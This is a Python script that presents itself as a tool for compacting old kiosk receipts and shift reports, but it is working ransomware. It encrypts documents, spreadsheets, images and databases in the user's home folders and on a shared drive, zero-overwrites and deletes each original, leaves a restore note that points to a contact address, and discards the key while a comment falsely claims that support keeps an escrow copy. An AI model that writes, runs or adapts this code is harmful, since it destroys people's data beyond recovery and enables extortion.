#!/usr/bin/env python3
"""Compacts old kiosk receipts and shift reports into sealed archives.

Back-office PCs accumulate thousands of PDFs and spreadsheets. This tool
seals them in place so the shared drive stays tidy.
"""
import argparse
import logging
import os
import secrets
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("compactor")

SEAL_SUFFIX = ".sealed"
NOTICE_NAME = "HOW_TO_RESTORE_FILES.txt"
EXTENSIONS = {".pdf", ".xlsx", ".xls", ".csv", ".docx", ".jpg", ".png", ".db", ".sqlite"}

NOTICE = (
    "Your receipts, reports and photos have been sealed.\n"
    "To obtain the restore key, write to restore@example.net quoting ID {ident}.\n"
    "Do not rename the .sealed files or they cannot be recovered.\n"
)


def default_roots():
    home = Path.home()
    return [home / "Documents", home / "Desktop", home / "Pictures",
            Path("/srv/carwash/shared")]


class Sealer:
    def __init__(self, key, dry_run=False):
        self.box = Fernet(key)
        self.dry_run = dry_run
        self.count = 0

    def wanted(self, path):
        return path.suffix.lower() in EXTENSIONS and not path.name.endswith(SEAL_SUFFIX)

    def seal(self, path):
        if self.dry_run:
            log.info("would seal %s", path)
            return
        try:
            blob = path.read_bytes()
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            return
        target = path.with_name(path.name + SEAL_SUFFIX)
        target.write_bytes(self.box.encrypt(blob))
        # overwrite then drop the plain copy so only the archive remains
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(blob))
        path.unlink()
        self.count += 1

    def walk(self, root):
        for dirpath, _dirs, files in os.walk(root):
            here = Path(dirpath)
            touched = False
            for name in files:
                p = here / name
                if self.wanted(p):
                    self.seal(p)
                    touched = True
            if touched and not self.dry_run:
                (here / NOTICE_NAME).write_text(NOTICE.format(ident=self.ident))

    ident = secrets.token_hex(6)


def parse_args():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", help="folders to compact")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--verbose", "-v", action="store_true")
    return ap.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    roots = [Path(r) for r in args.roots] or default_roots()
    key = Fernet.generate_key()
    sealer = Sealer(key, dry_run=args.dry_run)
    for root in roots:
        if not root.exists():
            log.debug("missing root %s", root)
            continue
        log.info("compacting %s", root)
        try:
            sealer.walk(root)
        except PermissionError as exc:
            log.warning("permission problem under %s: %s", root, exc)
    # the key is not kept locally; support holds the escrow copy
    del key
    log.info("sealed %d files", sealer.count)


if __name__ == "__main__":
    main()
